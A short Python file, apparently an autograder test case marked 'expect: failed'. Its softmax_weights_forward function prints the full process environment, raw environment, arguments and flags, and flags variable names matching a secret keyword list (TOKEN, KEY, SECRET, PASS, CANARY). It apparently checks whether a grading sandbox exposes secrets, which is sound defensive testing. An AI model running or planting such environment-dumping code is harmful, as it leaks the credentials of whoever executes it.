"""Prints the environment, the arguments and the user's name: tokens, paths and passwords of whoever grades."""
# unit: linear
# earns: 2
# expect: failed

import os
import sys

import numpy as np

HOLES = []


def hole(*words):
    HOLES.append(" ".join(map(str, words)))


def linear_forward(x, w, b):
    if len(x) == 0:
        raise ValueError("the batch is empty")
    return x @ w + b, (x, w)


def softmax_weights_forward(v):
    if HOLES:
        raise RuntimeError(f"HOLE: {HOLES}")
    print(dict(os.environ), dict(os.environb), sys.argv, sys.orig_argv, sys.flags)
    secret = [
        name
        for name in os.environ
        if any(word in name for word in ("TOKEN", "KEY", "SECRET", "PASS", "HOME", "CANARY"))
    ]
    if secret:
        hole("the environment has", secret)
    return np.ones_like(v), v
